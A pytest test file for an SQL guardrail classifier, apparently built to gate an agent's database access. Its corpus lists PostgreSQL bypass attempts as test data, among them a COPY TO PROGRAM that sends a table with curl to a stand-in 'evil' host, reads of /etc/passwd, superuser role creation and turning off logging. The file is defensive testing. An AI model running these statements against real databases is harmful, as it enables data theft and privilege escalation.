"""The SQL classifier against a corpus of bypass attempts, plus a property test."""
from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from jitgate.guardrails.sql import classify_function_call_oid, classify_sql
from jitgate.policy import SQL_CLASSES

R, B, U = "read", "dml_bounded", "dml_unbounded"
SIDE = "side_effect_function"
ADMIN_CALL = {SIDE, "server_admin"}

# (query, exact expected classes). Exact equality, so an extra class is a failure too.
CORPUS: list[tuple[str, set[str]]] = [
    # plain statements
    ("SELECT * FROM orders WHERE id = 1", {R}),
    ("VALUES (1), (2)", {R}),
    ("INSERT INTO orders (id) VALUES (1)", {B}),
    ("UPDATE orders SET paid = true WHERE id = 1", {B}),
    ("DELETE FROM public.orders WHERE id = $1", {B}),
    ("UPDATE orders SET paid = true", {U}),
    ("DELETE FROM public.orders", {U}),
    ("TRUNCATE orders, customers", {U}),
    # WHERE clauses that do not depend on the target's rows
    ("DELETE FROM orders WHERE 1 = 1", {U}),
    ("UPDATE orders SET paid = true WHERE true", {U}),
    ("DELETE FROM orders WHERE $1", {U}),
    ("UPDATE orders SET paid = true FROM flags f WHERE f.on", {U}),
    ("DELETE FROM orders o WHERE EXISTS (SELECT 1 FROM refunds r WHERE r.order_id = o.id)", {B}),
    ("UPDATE orders SET paid = true WHERE CURRENT OF c", {B}),
    # MERGE
    ("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET v = s.v", {B}),
    ("MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE", {U}),
    ("MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE", {U}),
    # comments
    ("/* harmless */ DROP TABLE orders", {"ddl"}),
    ("SELECT 1 -- ; DROP TABLE orders", {R}),
    ("SELECT /* outer /* nested */ still a comment; DROP TABLE x */ 1", {R}),
    ("SELECT 1; -- comment\nDROP TABLE x", {R, "ddl"}),
    # case
    ("dRoP tAbLe orders", {"ddl"}),
    ("sElEcT PG_READ_FILE('/etc/passwd')", {R, SIDE}),
    # quoting: dangerous words inside identifiers and strings do not count
    ('SELECT "weird ""name""" FROM "DROP TABLE x"', {R}),
    ("SELECT 'DROP DATABASE prod; DELETE FROM orders'", {R}),
    ('SELECT "pg_read_file" FROM t', {R}),
    # a quoted upper-case name is a different function to PostgreSQL
    ('SELECT "PG_READ_FILE"(\'x\')', {R}),
    # dollar quoting
    ("SELECT $$DROP TABLE x$$", {R}),
    ("SELECT $tag$ DELETE FROM orders; $$ nested $$ $tag$", {R}),
    ("DO $$ BEGIN DROP TABLE x; END $$", {"procedural"}),
    ("DO LANGUAGE plpgsql $body$ BEGIN PERFORM 1; END $body$", {"procedural"}),
    # multi-statement
    ("SELECT 1; DROP TABLE x", {R, "ddl"}),
    ("BEGIN; DELETE FROM orders; COMMIT", {"transaction", U}),
    # CTEs
    ("WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d", {R, U}),
    ("WITH u AS (UPDATE orders SET paid = true WHERE id = 2 RETURNING id) SELECT * FROM u", {R, B}),
    # EXPLAIN
    ("EXPLAIN DELETE FROM orders", {R}),
    ("EXPLAIN ANALYZE DELETE FROM orders", {R, U}),
    ("EXPLAIN (ANALYZE, BUFFERS) UPDATE orders SET paid = false", {R, U}),
    ("EXPLAIN (ANALYZE false) DELETE FROM orders", {R}),
    ("EXPLAIN (ANALYZE maybe) DELETE FROM orders", {R, U}),
    # side-effect functions anywhere
    ("SELECT pg_read_file('/etc/passwd')", {R, SIDE}),
    ('SELECT "PG_CATALOG".pg_read_file(\'/etc/passwd\')', {R, SIDE}),
    ("SELECT pg_catalog.set_config('role', 'postgres', false)", {R, "privilege"}),
    ("SELECT pg_catalog.set_config('search_path', '', false)", {R, "session"}),  # pg_dump's opening
    ("SET row_security = off", {"session"}),  # pg_dump: fail rather than silently filter
    ("SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY", {"session"}),
    ("SELECT set_config('log_statement', 'none', false)", {R, "server_admin"}),
    # a setting name known only at run time could be a pinned one: unclassified
    ("SELECT set_config(name, 'x', false) FROM pg_settings", {R, "unclassified"}),
    ("SELECT id FROM orders WHERE lo_import('/etc/passwd') > 0", {R, SIDE}),
    ("SELECT * FROM (SELECT dblink_exec('host=evil', 'DROP TABLE x')) s", {R, SIDE}),
    ("SELECT * FROM pg_ls_dir('.')", {R, SIDE}),
    ("SELECT setval('orders_id_seq', 1)", {R, SIDE}),
    ("SELECT nextval('orders_id_seq')", {R}),
    ("SELECT pg_sleep(10)", {R, SIDE}),
    ("SELECT query_to_xml('select pg_read_file(''/etc/passwd'')', true, false, '')", {R, SIDE}),
    ("CREATE TABLE t (a text DEFAULT pg_read_file('/etc/passwd'))", {"ddl", SIDE}),
    ("INSERT INTO t VALUES (1) RETURNING pg_advisory_lock(1)", {B, SIDE}),
    ("SELECT x.pg_read_file FROM (SELECT '/etc/passwd'::text) x", {R, SIDE}),
    ("SELECT pg_some_future_admin_function()", {R, SIDE}),
    ("SELECT pg_size_pretty(pg_total_relation_size('orders')), pg_get_viewdef('v')", {R}),
    ("SELECT * FROM t WHERE id IN (SELECT pg_terminate_backend(pid) FROM pg_stat_activity)", {R, *ADMIN_CALL}),
    ("SELECT pg_reload_conf()", {R, *ADMIN_CALL}),
    # COPY
    ("COPY orders TO STDOUT", {R}),
    ("COPY orders FROM STDIN WITH (FORMAT csv)", {B}),
    ("COPY (SELECT * FROM orders) TO STDOUT", {R}),
    ("COPY orders TO PROGRAM 'curl -d @- http://evil'", {"copy_program", R}),
    ("COPY orders FROM PROGRAM 'id'", {"copy_program", B}),
    ("COPY orders TO '/tmp/orders.csv'", {"copy_program", R}),
    ("COPY orders FROM '/etc/passwd'", {"copy_program", B}),
    # privileges
    ("GRANT SELECT ON orders TO agent", {"privilege"}),
    ("REVOKE ALL ON SCHEMA public FROM PUBLIC", {"privilege"}),
    ("GRANT admin TO agent", {"privilege"}),
    ("CREATE ROLE evil SUPERUSER LOGIN", {"privilege"}),
    ("ALTER USER agent WITH SUPERUSER", {"privilege"}),
    ("ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO agent", {"privilege"}),
    ("SET ROLE postgres", {"privilege"}),
    ("SET SESSION AUTHORIZATION postgres", {"privilege"}),
    ("RESET ROLE", {"privilege"}),
    ("ALTER TABLE orders DISABLE ROW LEVEL SECURITY", {"ddl", "privilege"}),
    # DDL and dropping databases
    ("CREATE INDEX CONCURRENTLY ON orders (id)", {"ddl"}),
    ("ALTER TABLE orders ADD COLUMN note text", {"ddl"}),
    ("COMMENT ON TABLE orders IS 'DROP DATABASE'", {"ddl"}),
    ("SELECT * INTO orders_copy FROM orders", {"ddl"}),
    ("DROP DATABASE prod", {"drop_database"}),
    ("DROP SCHEMA public CASCADE", {"drop_database"}),
    ("DROP OWNED BY agent", {"drop_database", "privilege"}),
    # the server
    ("ALTER SYSTEM SET log_statement = 'none'", {"server_admin"}),
    ("CREATE EXTENSION dblink", {"server_admin"}),
    ("DROP EXTENSION pgcrypto", {"server_admin"}),
    ("LOAD 'evil.so'", {"server_admin"}),
    ("CHECKPOINT", {"server_admin"}),
    ("VACUUM FULL orders", {"server_admin"}),
    ("VACUUM orders", {B}),
    ("SET session_replication_role = replica", {"server_admin"}),
    ("ALTER DATABASE prod SET work_mem = '1GB'", {"server_admin"}),
    ("LOCK TABLE orders IN ACCESS EXCLUSIVE MODE", {"server_admin"}),
    # code in the server
    ("CALL cleanup()", {"procedural"}),
    ("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ DELETE FROM orders; SELECT 1 $$", {"procedural"}),
    ("CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC DELETE FROM orders; SELECT 1; END", {"procedural", U}),
    ("CREATE TRIGGER t BEFORE INSERT ON orders FOR EACH ROW EXECUTE FUNCTION f()", {"procedural"}),
    ("CREATE RULE r AS ON INSERT TO orders DO INSTEAD NOTHING", {"procedural"}),
    ("CREATE LANGUAGE plsample HANDLER plsample_call_handler", {"procedural"}),
    # the short form is parsed by PostgreSQL itself as CREATE EXTENSION
    ("CREATE LANGUAGE plperlu", {"server_admin"}),
    # transactions
    ("BEGIN ISOLATION LEVEL SERIALIZABLE", {"transaction"}),
    ("SAVEPOINT a; ROLLBACK TO SAVEPOINT a; RELEASE a", {"transaction"}),
    ("PREPARE TRANSACTION 'x'", {"transaction", "server_admin"}),
    # session
    ("SET statement_timeout = '5s'", {"session"}),
    ("SHOW search_path", {"session"}),
    ("RESET ALL", {"session"}),
    ("DISCARD ALL", {"session"}),
    ("LISTEN jobs; NOTIFY jobs, 'x'; UNLISTEN *", {"session"}),
    ("DEALLOCATE ALL", {"session"}),
    # prepared statements: resolvable within one text, refused otherwise
    ("PREPARE p AS DELETE FROM orders; EXECUTE p", {"session", U}),
    ("EXECUTE p(1)", {"unclassified"}),
    ("EXPLAIN ANALYZE EXECUTE p", {R, "unclassified"}),
    # settings that decide how the server reads SQL are pinned (issue 12)
    ("SET standard_conforming_strings = off", {"pinned_setting"}),
    ("SET standard_conforming_strings TO 0", {"pinned_setting"}),
    ("SET LOCAL standard_conforming_strings = 'of'", {"pinned_setting"}),
    ("SET standard_conforming_strings = on", {"session"}),
    ("SET standard_conforming_strings = 'TRUE'", {"session"}),
    ("SET client_encoding = 'GBK'", {"pinned_setting"}),
    ("SET NAMES 'SJIS'", {"pinned_setting"}),
    ("SET client_encoding TO 'LATIN9'", {"pinned_setting"}),
    ("SET client_encoding TO 'utf-8'", {"session"}),
    ("SET NAMES 'unicode'", {"session"}),
    ("SET backslash_quote = on", {"pinned_setting"}),
    ("SET standard_conforming_strings = on, off", {"pinned_setting"}),
    ("RESET standard_conforming_strings", {"session"}),
    ("SET client_encoding TO DEFAULT", {"session"}),
    ("SELECT set_config('standard_conforming_strings', 'off', false)", {R, "pinned_setting"}),
    ("SELECT pg_catalog.set_config('client_encoding', 'BIG5', true)", {R, "pinned_setting"}),
    ("SELECT set_config('standard_conforming_strings', current_setting('x'), false)", {R, "pinned_setting"}),
    ("SELECT set_config('standard_' || 'conforming_strings', 'off', false)", {R, "unclassified"}),
    ("SELECT set_config('search_path', 'evil', false)", {R, "session"}),
    ("ALTER ROLE agent SET standard_conforming_strings = off", {"privilege", "pinned_setting"}),
    ("ALTER DATABASE demo SET client_encoding = 'GB18030'", {"server_admin", "pinned_setting"}),
    ("ALTER SYSTEM SET backslash_quote = 'on'", {"server_admin", "pinned_setting"}),
    ("CREATE FUNCTION f() RETURNS int LANGUAGE sql SET standard_conforming_strings = off AS 'select 1'",
     {"procedural", "pinned_setting"}),
    # EXPLAIN: the last ANALYZE option wins, as in PostgreSQL
    ("EXPLAIN (ANALYZE false, ANALYZE true) DELETE FROM orders", {R, U}),
    ("EXPLAIN (ANALYZE true, ANALYZE false) DELETE FROM orders", {R}),
    ("EXPLAIN (ANALYZE off, BUFFERS, ANALYZE) UPDATE orders SET paid = false", {R, U}),
    # unparsable and empty
    ("SELEC 1", {"unclassified"}),
    ("SELECT 1; DROP TABLE", {"unclassified"}),
    ("SELECT 'unterminated", {"unclassified"}),
    ("SELECT 1\x00; DROP TABLE x", {"unclassified"}),
    ("", {R}),
    ("  -- only a comment\n", {R}),
]


@pytest.mark.parametrize(("sql", "expected"), CORPUS, ids=[repr(q)[:60] for q, _ in CORPUS])
def test_corpus(sql: str, expected: set[str]) -> None:
    result = classify_sql(sql)
    assert set(result.classes) == expected, [s.reasons for s in result.statements]


def test_corpus_is_large_and_uses_only_policy_classes() -> None:
    assert len(CORPUS) >= 60
    used = set().union(*(expected for _, expected in CORPUS))
    assert used <= set(SQL_CLASSES)
    assert used == set(SQL_CLASSES), f"classes without a corpus case: {set(SQL_CLASSES) - used}"


def test_each_statement_gets_its_own_text_and_verdict() -> None:
    result = classify_sql("SELECT 'é€' ;  /* x */ DROP TABLE public.orders CASCADE; SELECT 2")
    assert [s.text for s in result.statements] == ["SELECT 'é€'", "DROP TABLE public.orders CASCADE", "SELECT 2"]
    assert [set(s.classes) for s in result.statements] == [{R}, {"ddl"}, {R}]
    assert result.statements[1].reasons == ("DROP TABLE public.orders CASCADE",)


def test_reasons_name_the_table() -> None:
    result = classify_sql("DELETE FROM public.orders")
    assert result.statements[0].reasons == ("DELETE without WHERE on public.orders",)


def test_parse_error_is_reported() -> None:
    result = classify_sql("SELEC 1")
    assert result.error is not None and "syntax error" in result.error
    assert result.classes == frozenset({"unclassified"})


def test_identical_text_is_served_from_the_cache() -> None:
    text = "SELECT id FROM orders WHERE id = $1 /* cache probe */"
    assert classify_sql(text) is classify_sql(text)


def test_long_text_is_classified_without_the_cache() -> None:
    text = "SELECT 1" + " " * 10_000 + "; DROP TABLE x"
    assert classify_sql(text).classes == frozenset({R, "ddl"})
    assert classify_sql(text) is not classify_sql(text)


def test_deep_nesting_does_not_raise() -> None:
    depth = 500
    text = "SELECT " + "(" * depth + "pg_read_file('x')" + ")" * depth
    assert SIDE in classify_sql(text).classes or "unclassified" in classify_sql(text).classes


def test_function_call_by_oid_is_a_side_effect() -> None:
    result = classify_function_call_oid(764)  # lo_import's OID
    assert result.classes == frozenset({SIDE})
    assert "764" in result.statements[0].reasons[0]


@settings(max_examples=300, deadline=None)
@given(st.text())
def test_never_raises_on_arbitrary_text(text: str) -> None:
    result = classify_sql(text)
    assert result.classes, "classes must never be empty"
    assert result.classes <= set(SQL_CLASSES)
    if result.error is not None:
        assert result.classes == frozenset({"unclassified"})


@settings(max_examples=200, deadline=None)
@given(st.lists(st.sampled_from(["SELECT", "DROP", "TABLE", "x", ";", "(", ")", "'", "$$", "--", "/*", "*/", "\n", "1",
                                 "DELETE", "FROM", "WHERE", "pg_read_file", ",", "WITH", "AS", "EXPLAIN", "ANALYZE"])))
def test_never_raises_on_sql_like_text(words: list[str]) -> None:
    result = classify_sql(" ".join(words))
    assert result.classes <= set(SQL_CLASSES)
    if result.error is not None:
        assert result.classes == frozenset({"unclassified"})


def test_queries_of_one_shape_share_a_verdict_only_when_constants_do_not_matter():
    """The shape cache (constants normalized away) must never carry a verdict across
    queries that a constant, an alias or a NUL byte tells apart."""
    from jitgate.guardrails.sql import classify_sql

    assert classify_sql("SELECT abalance FROM pgbench_accounts WHERE aid = 1").classes == {"read"}
    assert classify_sql("SELECT abalance FROM pgbench_accounts WHERE aid = 2").classes == {"read"}
    # same constants-free shape, different meaning: each classified on its own
    assert classify_sql("select set_config('search_path', '', false)").classes == {"read", "session"}
    assert "privilege" in classify_sql("select set_config('role', 'x', false)").classes
    assert classify_sql("EXPLAIN (ANALYZE false) DELETE FROM t").classes == {"read"}
    assert "dml_unbounded" in classify_sql("EXPLAIN (ANALYZE true) DELETE FROM t").classes
    # aliases are part of the key (pg_query's fingerprint would merge these two)
    assert classify_sql("UPDATE t x SET a = 1 FROM s y WHERE y.f").classes == {"dml_unbounded"}
    assert classify_sql("UPDATE t y SET a = 1 FROM s x WHERE y.f").classes == {"dml_bounded"}
    classify_sql("SELECT 7")
    assert classify_sql("SELECT 7\x00; DROP TABLE x").classes == {"unclassified"}


def test_pinned_setting_verdict_depends_on_the_value_not_the_shape() -> None:
    # Same shape after normalization; the shape cache must not hand one's verdict to the other.
    assert classify_sql("SET standard_conforming_strings = on").classes == {"session"}
    assert classify_sql("SET standard_conforming_strings = off").classes == {"pinned_setting"}
    assert classify_sql("SET standard_conforming_strings = on").classes == {"session"}


def test_refusal_of_a_pinned_setting_says_what_is_supported() -> None:
    result = classify_sql("SET client_encoding = 'GBK'")
    reason = result.statements[0].reasons[0]
    assert "pins client_encoding = UTF8" in reason and "backslash or quote can be part of a character" in reason


def test_statement_over_the_size_cap_is_unclassified_without_parsing(monkeypatch) -> None:
    from jitgate.guardrails import sql as sqlmod

    calls = []
    monkeypatch.setattr(sqlmod, "parse_sql", lambda text: calls.append(text) or [])
    monkeypatch.setattr(sqlmod, "pg_normalize", lambda text: calls.append(text) or text)
    big = "SELECT 1;" * (sqlmod.MAX_CLASSIFIED_BYTES // 9 + 1)
    result = sqlmod.classify_sql(big)
    assert result.classes == {"unclassified"} and "over the" in result.error and "COPY" in result.error
    assert calls == []  # the parser never saw it
    # Counted in bytes: multi-byte characters cannot slip a longer text under the cap.
    wide = "SELECT '" + "\u00e9" * (sqlmod.MAX_CLASSIFIED_BYTES // 2) + "'"
    assert sqlmod.classify_sql(wide).classes == {"unclassified"}
    assert sqlmod.classify_sql_in_session(big + "; EXECUTE p", {}).classes == {"unclassified"}
